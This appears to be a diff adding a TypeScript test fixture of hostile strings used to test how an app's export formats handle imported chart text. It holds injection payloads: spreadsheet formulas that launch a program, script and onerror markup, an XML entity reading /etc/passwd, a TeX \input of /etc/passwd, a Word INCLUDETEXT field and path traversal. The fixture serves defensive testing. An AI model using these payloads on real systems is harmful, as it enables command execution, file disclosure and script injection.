@@ -1,0 +1,58 @@
+/**
+ * Texts that an imported file could hold, or that could stand in an address, each with what it tries. Every format is tested with all of them
+ * in every text that it takes from a chart: title, sentence, notes, names, remarks, documents, links.
+ */
+export const hostileTexts: Record<string, string> = {
+  "characters that XML can't hold": "nul \u0000 bell \u0007 escape \u001b unit \u001f del \u007f c1 \u0085\u009f end",
+  "noncharacters of Unicode": "a \ufffe b \uffff c \ufdd0 d \u{1fffe} e",
+  "a high surrogate alone": "before \ud83d after",
+  "a low surrogate alone": "before \ude00 after",
+  "surrogates the wrong way round": "before \ude00\ud83d after",
+  "an override of direction that is not closed": "Report \u202egpj.exe",
+  "embeddings and isolates that are not closed": "one \u202a two \u202b three \u2066 four \u2067 five \u2068 six",
+  "ends of isolates that were never opened": "one \u2069\u2069 two \u202c\u202c three",
+  "characters without width": "in\u200bvis\u2060ible\ufeff \u00ad",
+  "lines and paragraphs": "first\r\nsecond\rthird\nfourth\u2028fifth\u2029sixth\tseventh",
+  "a formula": '=HYPERLINK("https://example.org/?"&A1,"open")',
+  "a formula that runs a program": "=cmd|' /C calc'!A0",
+  "a formula that begins with plus": "+1+cmd|' /C calc'!A0",
+  "a formula that begins with minus": "-2+3+cmd|' /C calc'!A0",
+  "a formula that begins with at": "@SUM(1+1)*cmd|' /C calc'!A0",
+  "a formula after a tab": "\t=1+1",
+  "a formula after a carriage return": "\r=1+1",
+  "a formula after a line break": "\n=1+1",
+  "a formula after a space and a quotation mark": ' "=1+1',
+  "a formula after characters without width": "\u200e\ufeff=1+1",
+  "a formula in wide letters": "＝1＋1",
+  "a formula that closes its cell": '","=1+1","',
+  "the end of a CDATA section": "<![CDATA[ x ]]> y ]]>",
+  markup: '<script>alert(1)</script><img src=x onerror="alert(1)"> &amp; &#0; &lt; "quoted" \'single\'',
+  "an entity of its own": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
+  "the end of an XML comment": "<!-- x --> y -- z --->",
+  "fields of a word processor": '{ INCLUDETEXT "C:\\\\secret.txt" } MERGEFIELD',
+  "ends of a string in PDF": "a ) b \\) c ( d \\",
+  "commands of TeX and BibTeX": "\\input{/etc/passwd} % } { # $ ^ _ ~ & @article{x,",
+  "lines of RIS": "ER  - \r\nTY  - BOOK\r\nAU  - Nobody",
+  "placeholders of messages": "{count, plural, one {x} other {y}} '{' %s ${x}",
+  "names of every object": "__proto__",
+  "a path out of the archive": "../../../../etc/passwd",
+  "a link that runs a script": "javascript:alert(1)",
+  "letters that stack": `Z${"\u0351\u0362\u0321".repeat(40)}algo`,
+  "emoji of many code points": "👩‍👩‍👧‍👦 🇮🇶 e\u0301",
+  "both directions": "Displaced 1,234 نازحون في Ninewa ٥٦٪ ئاوارە (2014)",
+  "only spaces": " \u00a0\u2003 ",
+  nothing: "",
+};
+
+/** A name of a million letters without a place to break it. */
+export const longText = "Examplia".repeat(125_000);
+
+/** The same with many words, each of another script. */
+export const longWords = "Examplia نموذج نموونە ".repeat(50_000);
+
+/** Every text with its name, the very long ones too. */
+export const allHostileTexts: [name: string, text: string][] = [
+  ...Object.entries(hostileTexts),
+  ["a million letters", longText],
+  ["a million letters in words", longWords],
+];
